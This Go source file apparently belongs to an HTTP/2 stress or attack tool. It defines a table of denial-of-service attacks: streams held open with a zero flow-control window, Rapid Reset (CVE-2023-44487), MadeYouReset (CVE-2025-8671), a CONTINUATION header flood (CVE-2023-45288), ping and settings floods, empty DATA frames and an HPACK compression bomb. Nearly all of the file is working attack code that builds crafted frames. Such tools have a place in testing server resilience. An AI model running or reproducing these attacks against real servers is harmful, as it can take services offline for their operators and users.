package main

import (
	"bytes"
	"io"
	"strings"
	"time"
)

// attack is what each of the connections does.
type attack struct {
	name string
	// settings are those of the client, as they stand in the frame.
	settings []byte
	// silent clients do not read what the server says.
	silent bool
	// holds says that the streams stay open.
	holds bool
	// step is called again and again, until it fails or time is over.
	step func(*client) error
}

// noRoom is SETTINGS_INITIAL_WINDOW_SIZE 0: the server may send no content.
var noRoom = []byte{0, 4, 0, 0, 0, 0}

// streams is how many requests a connection holds.
const streams = 100

var attacks = []attack{
	{name: "hold-small", settings: noRoom, holds: true, step: hold("/", 0)},
	{name: "hold-heads", settings: noRoom, holds: true, step: hold("/kept.bin", 12_000)},
	{name: "hold-kept", settings: noRoom, holds: true, step: hold("/kept.bin", 0)},
	{name: "hold-file", settings: noRoom, holds: true, step: hold("/large.bin", 0)},
	{name: "hold-content", settings: noRoom, holds: true, step: holdContent},
	// Ask and take it back: CVE-2023-44487.
	{name: "rapid-reset", step: func(c *client) error {
		return c.say(c.request("GET", "/", 0), frame{frameReset, 0, c.last, []byte{0, 0, 0, 8}})
	}},
	// Ask, and make the server take it back by a window update of nothing: CVE-2025-8671.
	{name: "made-you-reset", step: func(c *client) error {
		return c.say(c.request("GET", "/", 0), frame{frameWindowUpdate, 0, c.last, make([]byte, 4)})
	}},
	// A head without end: CVE-2023-45288.
	{name: "continuation", step: continuation},
	{name: "ping", silent: true, step: func(c *client) error { return c.say(frame{kind: framePing, payload: make([]byte, 8)}) }},
	{name: "settings", silent: true, step: func(c *client) error { return c.say(frame{kind: frameSettings}) }},
	{name: "empty-data", step: emptyData},
	{name: "hpack-bomb", step: bomb},
}

// hold opens streams whose answers the client makes no room for.
func hold(path string, cookie int) func(*client) error {
	return func(c *client) error {
		if c.open() >= streams {
			return pause(c)
		}
		return c.say(c.request("GET", path, cookie))
	}
}

// holdContent opens streams with content that nobody reads, and makes no room for the answers.
func holdContent(c *client) error {
	if c.open() >= streams {
		return pause(c)
	}
	head := c.request("POST", "/", 0)
	data := frame{frameData, 0, c.last, make([]byte, 16<<10)}
	return c.say(head, data, data)
}

// pause is what an attack does that has nothing more to say.
func pause(c *client) error {
	time.Sleep(50 * time.Millisecond)
	if c.isOver() {
		return io.EOF
	}
	return nil
}

func continuation(c *client) error {
	if c.last == 0 {
		c.begin("GET", "/")
		x := c.headers(true)
		x.flags &^= endHeaders
		return c.say(x)
	}
	c.block.Reset()
	c.field("x", strings.Repeat("x", 4000), true)
	return c.say(frame{frameContinuation, 0, c.last, c.block.Bytes()})
}

func emptyData(c *client) error {
	if c.last == 0 {
		return c.say(c.request("POST", "/", 0))
	}
	return c.say(frame{kind: frameData, stream: c.last})
}

// bomb puts a field of 3,900 bytes into the server's table, and names it by one byte, again and again.
func bomb(c *client) error {
	const newest = 0x80 | 62 // RFC 7541, sections 2.3.3 and 6.1
	c.begin("GET", "/")
	c.field("x-bomb", strings.Repeat("x", 3900), false)
	c.block.Write(bytes.Repeat([]byte{newest}, 11_000))
	return c.say(c.headers(true))
}
